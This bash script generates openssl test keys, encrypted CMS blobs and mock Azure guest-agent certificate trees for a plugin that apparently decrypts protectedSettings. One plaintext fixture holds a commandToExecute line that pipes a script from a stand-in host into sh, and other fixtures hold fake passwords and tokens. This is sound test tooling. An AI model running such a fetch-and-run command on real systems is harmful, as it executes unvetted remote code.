#!/usr/bin/env bash
# gen.sh: builds the test key material and CMS blobs of plugins/protected/testdata
# with openssl (3.x), the way CRP and the Linux guest agent produce them.
# Usage: tools/crypto/gen.sh [outdir]   (default: plugins/protected/testdata)
# Every run makes new keys: commit the whole output together.
set -euo pipefail

here=$(cd "$(dirname "$0")/../.." && pwd)
out=${1:-$here/plugins/protected/testdata}
wa=/var/lib/waagent
mkdir -p "$out"
cd "$out"
rm -rf blobs root-crtprv root-pem root-p7m keys
mkdir -p blobs keys

subj='/DC=Windows Azure CRP Certificate Generator'
thumb() { openssl x509 -in "$1" -noout -fingerprint -sha1 | sed 's/.*=//; s/://g' | tr 'a-f' 'A-F'; }

# Two CRP tenant certificates (RSA-2048, self-signed, DC=Windows Azure CRP Certificate Generator).
# crp1.prv is PKCS#8 ("PRIVATE KEY"), crp2.prv is PKCS#1 ("RSA PRIVATE KEY"): both occur.
openssl req -x509 -newkey rsa:2048 -nodes -keyout keys/crp1.prv -out keys/crp1.crt -subj "$subj" -days 3650 -sha256 2>/dev/null
openssl req -x509 -newkey rsa:2048 -nodes -keyout keys/crp2.prv.p8 -out keys/crp2.crt -subj "$subj" -days 3650 -sha256 2>/dev/null
openssl rsa -in keys/crp2.prv.p8 -traditional -out keys/crp2.prv 2>/dev/null
rm keys/crp2.prv.p8
# The guest agent's transport key pair (Certificates.xml is encrypted to it).
openssl req -x509 -newkey rsa:2048 -nodes -keyout keys/TransportPrivate.pem -out keys/TransportCert.pem -subj '/CN=TransportCert' -days 3650 2>/dev/null
T1=$(thumb keys/crp1.crt); T2=$(thumb keys/crp2.crt)
printf 'crp1\t%s\ncrp2\t%s\n' "$T1" "$T2" > thumbprints.tsv

# PKCS#12 export with a password (openssl 3 default: PBES2 AES-256, SHA-256 MAC).
openssl pkcs12 -export -inkey keys/crp1.prv -in keys/crp1.crt -passout pass:Test-Passw0rd -out keys/crp1-password.pfx

# Plaintexts: what CRP puts into protectedSettings (RC v1 / CSE, RC v2).
cat > plain-rc1.json <<'J'
{"commandToExecute":"bash -c 'curl -s https://example.invalid/x.sh | sh'","storageAccountName":"evilstore","storageAccountKey":"c2VjcmV0LXN0b3JhZ2Uta2V5LWZvci10ZXN0cw=="}
J
cat > plain-rc2.json <<'J'
{"runAsPassword":"Hunter2!","protectedParameters":[{"name":"Token","value":"p4ramS3cret"}],"sourceSASToken":"?sv=2022-11-02&ss=b&sig=AbCdEf%2B123%3D","fileUris":["https://evilstore.blob.core.windows.net/c/run.sh?sv=2022-11-02&sig=XyZ%3D"]}
J
# UTF-16LE (no BOM) plaintext, as Windows tooling writes it.
iconv -f UTF-8 -t UTF-16LE plain-rc1.json > plain-rc1.utf16le
printf 'not json: just a string' > plain-text.txt

enc() { # enc NAME INFILE openssl-cms-args...
	local name=$1 in=$2; shift 2
	openssl cms -encrypt -binary -outform DER -in "$in" "$@" | base64 -w0 > "blobs/$name.b64"
	echo >> "blobs/$name.b64"
}
enc 3des          plain-rc1.json -des3   keys/crp1.crt
enc aes128        plain-rc1.json -aes128 keys/crp1.crt
enc aes192        plain-rc2.json -aes192 keys/crp1.crt
enc aes256        plain-rc2.json -aes256 keys/crp1.crt
enc oaep          plain-rc1.json -aes256 -recip keys/crp1.crt -keyopt rsa_padding_mode:oaep
enc oaep-sha256   plain-rc2.json -des3   -recip keys/crp1.crt -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256
enc ski           plain-rc1.json -des3   -keyid keys/crp1.crt
enc utf16le       plain-rc1.utf16le -des3 keys/crp1.crt
enc text          plain-text.txt -aes128 keys/crp1.crt
enc two-recipients plain-rc2.json -aes256 keys/crp2.crt keys/crp1.crt
enc crp2          plain-rc1.json -des3   keys/crp2.crt
enc crp2-ski      plain-rc1.json -des3   -keyid keys/crp2.crt
enc camellia      plain-rc1.json -camellia128 keys/crp1.crt
if openssl cms -encrypt -rc2 -provider legacy -provider default -binary -outform DER -in plain-rc1.json keys/crp1.crt > /tmp/rc2.$$ 2>/dev/null; then
	base64 -w0 < /tmp/rc2.$$ > blobs/rc2.b64; echo >> blobs/rc2.b64
fi
rm -f /tmp/rc2.$$

# Evidence trees (root= of the plugin), as the Linux agent leaves them in /var/lib/waagent.
# 1. <THUMB>.crt / <THUMB>.prv pairs.
mkdir -p root-crtprv$wa
cp keys/crp1.crt "root-crtprv$wa/$T1.crt"; cp keys/crp1.prv "root-crtprv$wa/$T1.prv"
cp keys/crp2.crt "root-crtprv$wa/$T2.crt"; cp keys/crp2.prv "root-crtprv$wa/$T2.prv"
# 2. Certificates.pem only (openssl pkcs12 -nodes output, Bag Attributes and all).
#    The agent's PFX holds every tenant certificate; openssl can export one key per PFX,
#    so crp1 comes with its key and crp2 as a certificate only.
openssl pkcs12 -export -inkey keys/crp1.prv -in keys/crp1.crt -certfile keys/crp2.crt -passout pass: -out keys/Certificates.pfx
mkdir -p root-pem$wa
openssl pkcs12 -nodes -password pass: -in keys/Certificates.pfx -out "root-pem$wa/Certificates.pem"
# 3. Only the transport key pair and the encrypted Certificates document: the
#    PFX (empty password) must be recovered from Certificates.xml / .p7m.
mkdir -p root-p7m$wa
cp keys/TransportPrivate.pem keys/TransportCert.pem "root-p7m$wa/"
openssl cms -encrypt -aes128 -keyid -binary -outform DER -in keys/Certificates.pfx keys/TransportCert.pem > keys/Certificates.der
data=$(base64 -w64 < keys/Certificates.der)
printf '<?xml version="1.0" encoding="utf-8"?>\n<CertificateFile xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="certificates10.xsd">\n  <Version>2012-11-30</Version>\n  <Incarnation>1</Incarnation>\n  <Format>Pkcs7BlobWithPfxContents</Format>\n  <Data>%s</Data>\n</CertificateFile>\n' "$data" > "root-p7m$wa/Certificates.xml"
# The agent writes Certificates.p7m as a MIME document around the same base64 (DES-EDE3 here).
openssl cms -encrypt -des3 -binary -outform DER -in keys/Certificates.pfx keys/TransportCert.pem > keys/Certificates-3des.der
mkdir -p root-p7m-mime$wa
cp keys/TransportPrivate.pem keys/TransportCert.pem "root-p7m-mime$wa/"
{ printf 'MIME-Version:1.0\nContent-Disposition: attachment; filename="%s"\nContent-Type: application/x-pkcs7-mime; name="%s"\nContent-Transfer-Encoding: base64\n\n' "$wa/Certificates.p7m" "$wa/Certificates.p7m"; base64 -w64 < keys/Certificates-3des.der; } > "root-p7m-mime$wa/Certificates.p7m"
rm -f keys/Certificates.der keys/Certificates-3des.der

echo "wrote $out (crp1=$T1 crp2=$T2)"
